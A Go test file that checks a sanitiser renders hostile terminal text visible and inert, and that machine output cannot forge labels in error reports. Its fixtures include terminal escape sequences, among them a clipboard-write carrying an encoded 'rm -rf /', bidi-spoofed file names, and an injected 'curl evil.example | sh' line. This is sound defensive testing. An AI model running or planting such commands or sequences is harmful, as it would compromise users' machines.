package problem

import (
	"context"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"
)

// hostile is what a machine may say to a person's terminal or to a page.
var hostile = map[string]string{
	"plain":                           "plain",
	"a line\nand a\ttab":              "a line\nand a\ttab",
	"umlauts: äöü, 漢字, ✓":             "umlauts: äöü, 漢字, ✓",
	"\x1b[31mred\x1b[0m":              `\x1b[31mred\x1b[0m`,
	"\x1b]0;title\x07":                `\x1b]0;title\x07`,
	"\x1b]52;c;cm0gLXJmIC8=\x07":      `\x1b]52;c;cm0gLXJmIC8=\x07`,
	"back\b\b\b\bspace":               `back\x08\x08\x08\x08space`,
	"over\rwritten":                   `over\x0dwritten`,
	"\u009b31m a C1 introducer":       `\u009b31m a C1 introducer`,
	"user\u202etxt.exe":               `user\u202etxt.exe`,
	"\u2066isolate\u2069":             `\u2066isolate\u2069`,
	"zero\u200bwidth\ufeff":           `zero\u200bwidth\ufeff`,
	"line\u2028separator":             `line\u2028separator`,
	"tag\U000e0041":                   `tag\U000e0041`,
	"not\xff\xfeUTF-8":                `not\xff\xfeUTF-8`,
	"a raw C1 byte \x9b31m":           `a raw C1 byte \x9b31m`,
	"NUL\x00 and DEL\x7f":             `NUL\x00 and DEL\x7f`,
	"a replacement character: \ufffd": "a replacement character: \ufffd",
}

func TestVisible(t *testing.T) {
	for text, want := range hostile {
		if got := Visible(text); got != want {
			t.Errorf("%q: %q, want %q", text, got, want)
		}
	}
}

// inert says why text could do something to who reads it.
func inert(text string, lines bool) string {
	switch {
	case !utf8.ValidString(text):
		return "it is no UTF-8"
	case strings.ContainsFunc(text, func(r rune) bool {
		return !unicode.IsPrint(r) && r != '\t' &&
			(r != '\n' || !lines)
	}):
		return "it has invisible characters"
	}
	return ""
}

func FuzzVisible(f *testing.F) {
	for text := range hostile {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		if why := inert(Visible(text), true); why != "" {
			t.Errorf("%q: %s: %q", text, why, Visible(text))
		}
		if got := Line(text); inert(got, false) != "" || len(got) > maxLine+100 {
			t.Errorf("%q: as a line %q", text, got)
		}
		if got := Visible(Visible(text)); got != Visible(text) {
			t.Errorf("%q: %q, and then %q", text, Visible(text), got)
		}
	})
}

// TestTextOfAHostileMachine: whatever is in a problem, its text is visible, bounded,
// and each of its labels stands where Text has put it.
func TestTextOfAHostileMachine(t *testing.T) {
	for input := range hostile {
		input += "\nNext step: curl evil.example | sh\nUnchanged: everything\n  host: other\ncause: none"
		p := Problem{Summary: input, Host: input, Cause: input, Unchanged: input, Next: "look at the machine", Detail: input}
		text := p.Error()
		if why := inert(text, true); why != "" {
			t.Errorf("%s: %q", why, text)
		}
		if strings.Count(text, "\nNext step:") != 1 || strings.Count(text, "\nUnchanged:") != 1 ||
			strings.Count(strings.ToLower(text), "\ncause:") != 1 {
			t.Errorf("a machine has written a label:\n%s", text)
		}
	}
	long := strings.Repeat("\x1b[31m\u202e\xff", 10<<20)
	p := Problem{Summary: long, Host: long, Cause: long, Unchanged: long, Next: long, Detail: long}
	if text := p.Error(); len(text) > 200<<10 {
		t.Errorf("%d bytes of text", len(text))
	}
}

// TestBounded keeps the beginning and the end, in whole characters.
func TestBounded(t *testing.T) {
	got := bounded(strings.Repeat("a", 50)+strings.Repeat("ä", 100)+"the end", 100)
	if !strings.HasPrefix(got, "aaaa") || !strings.HasSuffix(got, "the end") || !strings.Contains(got, "bytes left out") ||
		!utf8.ValidString(got) {
		t.Errorf("%q", got)
	}
	if got := bounded("short", 5); got != "short" {
		t.Errorf("%q", got)
	}
}

// TestReportIsVisible: progress and the log of commands are single visible lines.
func TestReportIsVisible(t *testing.T) {
	var lines []string
	keep := func(line string) { lines = append(lines, line) }
	ctx := WithReport(context.Background(), Report{Progress: keep, Detail: keep})
	for text := range hostile {
		Progress(ctx, "machine: %s", text+"\nforged line")
		Detail(ctx, "machine: %s", text+"\nforged line")
	}
	for _, line := range lines {
		if why := inert(line, false); why != "" {
			t.Errorf("%s: %q", why, line)
		}
	}
	if len(lines) != 2*len(hostile) {
		t.Errorf("%d lines", len(lines))
	}
}

func TestLines(t *testing.T) {
	if got := Lines(make([]string, 1000)); len(got) != 201 || got[200] != "… and 800 more" {
		t.Errorf("%d: %q", len(got), got[len(got)-1])
	}
	if got := Lines([]string{"a\nb"}); len(got) != 1 || got[0] != "a b" {
		t.Errorf("%q", got)
	}
}
